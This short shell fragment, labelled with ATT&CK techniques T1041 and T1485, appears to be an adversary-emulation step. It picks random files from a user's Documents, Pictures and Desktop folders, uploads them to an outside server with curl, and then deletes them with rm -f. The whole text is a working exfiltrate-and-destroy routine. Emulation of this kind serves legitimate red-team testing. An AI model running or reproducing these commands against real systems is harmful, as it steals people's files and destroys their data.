# T1041, T1485 by curl and rm.
groundwork
rnd 15 40; files_in "$r" '*.*' Documents Pictures Desktop
echo "$found" | sed 's/ /%20/g; s/.*/upload-file = "&"\nurl = "URL"/' | sed "s,URL,$url/put," > work/list
curl -s -H Expect: -o /dev/null -K work/list
echo "$found" | tr '\n' '\0' | xargs -0 rm -f
